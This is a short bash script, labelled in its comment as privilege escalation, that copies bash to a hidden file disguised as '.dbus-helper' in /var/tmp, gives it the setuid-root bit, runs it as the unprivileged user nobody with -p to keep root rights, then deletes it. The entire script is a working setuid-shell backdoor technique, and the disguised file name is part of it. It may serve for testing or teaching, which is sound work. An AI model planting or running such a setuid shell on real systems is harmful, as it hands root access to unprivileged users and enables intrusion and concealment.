#!/bin/bash
# Privilege escalation: a set-uid root copy of bash, then run by an unprivileged user (nobody) with -p.
set -eu
b=/var/tmp/.dbus-helper
cp /bin/bash $b
chmod 4755 $b
setpriv --reuid=65534 --regid=65534 --clear-groups $b -p -c 'id -u' >/dev/null
rm -f $b
